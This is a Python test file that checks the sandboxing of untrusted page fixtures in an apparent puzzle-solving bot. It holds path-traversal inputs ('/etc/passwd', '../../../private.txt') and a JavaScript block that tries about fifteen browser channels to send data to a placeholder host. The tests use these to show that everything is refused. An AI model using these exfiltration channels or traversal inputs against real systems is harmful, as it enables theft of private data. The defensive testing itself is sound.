"""Fixtures of strangers: they read no file but their own, reach nothing but the browser, and run no script unasked."""

from __future__ import annotations

import json
import socket
import threading
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from bot.browser.launch import new_context
from bot.errors import UsageError
from bot.play.fixture import Fixture, serve
from bot.play.resolve import resolve
from solvers import GivensError
from tests.cases import CASES
from tests.conftest import Givens

ADDRESS = "https://www.linkedin.com/games/view/tango/desktop"
PRIVATE = "a private file of the user"
CHANNELS = """
const make = (tag, facts) => Object.assign(document.createElement(tag), facts);
const add = (tag, facts, to = document.documentElement) => to.appendChild(make(tag, facts));
const blob = (text) => URL.createObjectURL(new Blob([text]));
const tries = {
    fetch: () => fetch("http://AT/fetch"),
    beacon: () => navigator.sendBeacon("http://AT/beacon", "private"),
    image: () => { new Image().src = "http://AT/image"; },
    frame: () => add("iframe", { src: "http://AT/frame" }),
    window: () => open("http://AT/window"),
    websocket: () => new Promise((done) => { new WebSocket("ws://AT/socket").onclose = done; }),
    in_a_frame: () => {
        const frame = add("iframe", {});
        new frame.contentWindow.WebSocket("ws://AT/socket");
        new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:AT" }] });
    },
    events: () => { new EventSource("http://AT/events"); },
    webtransport: () => new WebTransport("https://AT/transport").ready,
    worker: () => new Worker(blob("fetch('http://AT/worker'); new WebSocket('ws://AT/')")),
    shared: () => new SharedWorker(blob("new WebSocket('ws://AT/')")),
    service: () => navigator.serviceWorker.register("/worker.js"),
    hints: () => {
        for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "prerender", "stylesheet"])
            add("link", { rel, href: "http://AT/hint", as: "image" }, document.head);
    },
    webrtc: async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:AT" }] });
        peer.createDataChannel("out");
        await peer.setLocalDescription(await peer.createOffer());
    },
    form: () => {
        add("form", { action: "http://AT/form", method: "post", target: "f" }).submit();
    },
};
const soon = () => new Promise((done) => setTimeout(done, 1000));
const all = Object.values(tries).map((attempt) => Promise.race([(async () => attempt())(), soon()]));
Promise.allSettled(all).then(() => { window.tried = true; });
"""


def stranger(folder: Path, page: str = "<p>", **facts: Any) -> Path:  # noqa: ANN401 - any JSON value
    """Write a case like one that a stranger sends; return its folder."""
    case = folder / "sent" / "site" / "case"
    case.mkdir(parents=True)
    (folder / "private.txt").write_text(PRIVATE)
    said = {"v": 1, "url": ADDRESS, "scripts": True, "expect": "read", "made": "", "how": "", "evidence": {}}
    (case / "fixture.json").write_text(json.dumps(said | facts))
    (case / "page.html").write_text(page)
    return case


@pytest.mark.posix("devices")
@pytest.mark.parametrize("name", ["../../../private.txt", "PRIVATE", "/etc/passwd", "in/../../../../private.txt"])
def test_pages_stay_in_the_folder(tmp_path: Path, name: str) -> None:
    """A page that names a file outside of its fixture is refused."""
    file = name.replace("PRIVATE", str(tmp_path / "private.txt"))
    case = stranger(tmp_path, pages={"https://www.linkedin.com/x": file})

    with pytest.raises(UsageError, match="there is no such file in it"):
        Fixture.load(case)


@pytest.mark.posix("links")
def test_links_stay_in_the_folder(tmp_path: Path) -> None:
    """A link that leads out of the folder is not followed, for a page or a file beside it."""
    case = stranger(tmp_path, pages={"https://www.linkedin.com/x": "linked.html"})
    (case / "linked.html").write_text("")
    fixture = Fixture.load(case)
    for file in (case / "linked.html", case / "beside.css", case / "puzzle.json"):
        file.unlink(missing_ok=True)
        file.symlink_to(tmp_path / "private.txt")

    assert None is fixture.document("https://www.linkedin.com/games/view/tango/beside.css")
    assert None is fixture.file("puzzle.json")
    with pytest.raises(UsageError, match="there is no such file"):
        fixture.document("https://www.linkedin.com/x")


@pytest.mark.posix("links")
@pytest.mark.parametrize("base", ["../../../other", "/", "LINK"])
def test_bases_stay_beside_the_folder(tmp_path: Path, base: str) -> None:
    """A case extends only what is beside it, or a part of givens."""
    case = stranger(tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    (other / "fixture.json").write_text((case / "fixture.json").read_text())
    (case.parent / "link").symlink_to(other)
    (case / "fixture.json").write_text(json.dumps({"v": 1, "extends": base.replace("LINK", "../link")}))

    with pytest.raises(UsageError, match="neither beside its folder nor a part of givens"):
        Fixture.load(case)


@pytest.mark.posix("links")
def test_linked_facts(tmp_path: Path) -> None:
    """A `fixture.json` that is a link to another file is not read."""
    case = stranger(tmp_path)
    (case / "fixture.json").unlink()
    (case / "fixture.json").symlink_to(tmp_path / "private.txt")

    with pytest.raises(UsageError, match="a link that leads out of its folder"):
        Fixture.load(case)


@pytest.mark.parametrize("command", ["read", "play", "sites capture", "sites new", "sites check"])
def test_scripts_need_trust(givens: Givens, tmp_path: Path, command: str) -> None:
    """The scripts of a fixture from elsewhere do not run unasked, whichever command opens it."""
    case = stranger(tmp_path, "<script>document.title = 'ran'</script>")
    into = ["-o", tmp_path / "out"] if command in {"sites capture", "sites new", "sites check"} else []

    done = givens(*command.split(), case, *into)

    assert 2 == done.returncode
    assert "scripts that are not a part of givens run only with --trust" in done.stderr
    assert not (tmp_path / "sessions").exists()


def test_own_cases_need_no_trust() -> None:
    """Every case in the folder of fixtures, where `givens sites new` writes too, counts as a part of givens."""
    assert [] == [case.name for case in CASES.values() if not case.is_bundled]


class Listener:
    """A server on this machine that notes every connection and every packet."""

    def __init__(self) -> None:
        """Listen on a free port."""
        self.heard: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(self._tcp.getsockname())
        self.port: int = self._tcp.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            self.heard.append(b"tcp")
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.heard.append(self._udp.recv(2000))
            except OSError:
                return

    def close(self) -> None:
        """Stop listening."""
        self._tcp.close()
        self._udp.close()


def test_no_way_out(chromium: Browser, tmp_path: Path) -> None:
    """A trusted script has no network: 15 ways out of the browser reach nothing."""
    with closing(Listener()) as listener, closing(new_context(chromium, network=False)) as context:
        script = CHANNELS.replace("AT", f"127.0.0.1:{listener.port}")
        fixture = Fixture.load(stranger(tmp_path, f"<html><head></head><body><script>{script}</script></body></html>"))
        refused = serve(context, fixture)
        page = context.new_page()
        page.goto(fixture.url)
        page.wait_for_function("window.tried", timeout=60_000)
        page.wait_for_timeout(500)

        assert [] == listener.heard
        assert any("/fetch" in address for address in refused)
        assert any("/socket" in address for address in refused)


@pytest.mark.parametrize("target", ["evil.py", "evil.py:size=6", "./evil.py"])
def test_modules_run_only_for_the_option(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str) -> None:
    """A Python file as a target is never imported."""
    (tmp_path / "evil.py").write_text("open('ran', 'w')")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.dont_write_bytecode", True)

    with pytest.raises(GivensError):
        resolve(target)

    assert ["evil.py"] == [path.name for path in tmp_path.iterdir()]
